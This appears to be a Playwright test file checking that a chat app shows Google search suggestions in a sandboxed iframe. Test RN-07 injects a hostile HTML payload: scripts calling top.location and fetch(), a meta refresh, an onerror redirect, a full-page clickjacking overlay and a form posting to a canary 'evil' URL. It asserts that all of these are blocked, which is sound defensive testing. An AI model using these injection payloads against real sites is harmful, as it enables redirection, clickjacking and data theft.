import type { Locator } from "@playwright/test";
import { askAnything } from "./ask-anything";
import { startCanary } from "./canary";
import { settled } from "./chat-page";
import { expect } from "./fixtures";
import { test } from "./scripted-fixture";
import { citedText, search } from "./scripted-google";

const SUGGESTIONS = `<style>
.container { display: flex; border-radius: 8px; padding: 8px 12px; background-color: rgb(250, 250, 250) }
@media (prefers-color-scheme: dark) { .container { background-color: rgb(31, 31, 31) } }
</style>
<div class="container"><a class="chip" href="https://www.google.com/search?q=euro+2024&client=app">euro 2024 – überall</a></div>
`;

test.describe("search suggestions", () => {
  const frameOf = (reply: Locator) => reply.locator("iframe[title='Search suggestions']");

  test.describe("in their frame", () => {
    // Playwright looks into the frame by scripts, which the frame refuses.
    test.use({ expectedConsole: [/Blocked script execution/] });

    test("RN-05 RN-06 are shown once, as Google sent them, in light and dark, and open Google in a tab of their own", async ({
      page,
      context,
      google,
    }) => {
      await context.route("https://www.google.com/**", (route) => route.fulfill({ body: "Google" }));
      google.answerWith(citedText("Spain won."), ...search(SUGGESTIONS, SUGGESTIONS, SUGGESTIONS));
      const reply = await askAnything(page);
      await settled(reply);
      await expect(frameOf(reply)).toHaveCount(1);
      const src = (await frameOf(reply).getAttribute("src")) ?? "";
      const response = await page.request.get(src);
      expect((await response.body()).includes(Buffer.from(SUGGESTIONS)), "the bytes are Google's").toBe(true);
      expect((await response.text()).replace(SUGGESTIONS, "")).toMatch(
        /^(<!doctype html>)?(<(meta|base) [^>]*>)*$/,
      );
      const frame = reply.frameLocator("iframe[title='Search suggestions']");
      const container = frame.locator(".container");
      await expect(container).toHaveCSS("background-color", "rgb(250, 250, 250)");
      await page.emulateMedia({ colorScheme: "dark" });
      await expect(container).toHaveCSS("background-color", "rgb(31, 31, 31)");
      const [answer, shown] = [
        await reply.locator("[data-part=content]").boundingBox(),
        await container.boundingBox(),
      ];
      expect(shown?.width, "as wide as the answer").toBeGreaterThanOrEqual((answer?.width ?? 0) - 1);
      const opened = context.waitForEvent("page");
      await frame.getByText("euro 2024 – überall").click();
      const tab = await opened;
      await expect(tab).toHaveURL("https://www.google.com/search?q=euro+2024&client=app");
      expect(await tab.evaluate(() => window.opener)).toBeNull();
      await expect(container, "the frame stays what it is").toBeVisible();
    });
  });

  test.describe("that mean harm", () => {
    test.use({
      expectedConsole: [/Blocked|Refused|sandboxed|Content Security Policy|violates|Unsafe attempt/],
      expectedViolations: [/./],
    });

    test("RN-07 stay in their box: nothing runs, loads, submits, moves on or covers the page", async ({
      page,
      google,
    }) => {
      const canary = await startCanary();
      const evil = canary.url;
      google.answerWith(
        ...search(`
          <base href="${evil}" target="_top"><meta http-equiv="refresh" content="0;url=${evil}">
          <meta http-equiv="content-security-policy" content="default-src *">
          <script>parent.document.title = "taken"; top.location = "${evil}"; fetch("${evil}")</script>
          <script src="${evil}"></script><img src="${evil}" onerror="top.location='${evil}'">
          <link rel="stylesheet" href="${evil}"><style>@import "${evil}"; body { background: url(${evil}) }
          .cover { position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 2147483647; background: red }
          ${".a { color: red } ".repeat(20000)}</style>
          <iframe src="${evil}"></iframe><object data="${evil}"></object><video src="${evil}" autoplay></video>
          <form action="${evil}" method="post"><button class="cover">Send</button></form>
          <a id="top" href="${evil}" target="_top">top</a>
        `),
        citedText("Spain won."),
      );
      const reply = await askAnything(page);
      await settled(reply);
      const frame = reply.frameLocator("iframe[title='Search suggestions']");
      await frame.getByRole("button", { name: "Send" }).click();
      const url = page.url();
      await frame
        .locator("#top")
        .evaluate((link: HTMLElement) => link.click())
        .catch(() => undefined);
      const box = await frameOf(reply).boundingBox();
      expect(box?.height, "no higher than its place").toBeLessThan(80);
      const below = await page.evaluate(
        ({ x, y }) => document.elementFromPoint(x, y)?.closest("iframe") === null,
        { x: (box?.x ?? 0) + 20, y: (box?.y ?? 0) + (box?.height ?? 0) + 30 },
      );
      expect(below, "it covers nothing").toBe(true);
      expect(page.url()).toBe(url);
      await expect(page).not.toHaveTitle("taken");
      expect(canary.hits()).toBe(0);
      await page.goto(`${(await frameOf(reply).getAttribute("src")) ?? ""}`);
      await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
      expect(canary.hits(), "nor as a page of its own").toBe(0);
      canary.close();
    });
  });

  test("are for the owner only, and only where there are any", async ({ page, google, browser, app }) => {
    google.answerWith(...search(SUGGESTIONS), citedText("Spain won."));
    const reply = await askAnything(page);
    await settled(reply);
    const src = (await frameOf(reply).getAttribute("src")) ?? "";
    expect((await page.request.get(src)).status()).toBe(200);
    for (const other of [src.replace(/0$/, "1"), src.replace(/0$/, "x"), src.replace(/0$/, "-1")]) {
      expect((await page.request.get(other)).status(), other).toBe(404);
    }
    const stranger = await browser.newContext();
    expect((await stranger.request.get(app.url + src)).status()).toBe(404);
    await stranger.close();
  });
});
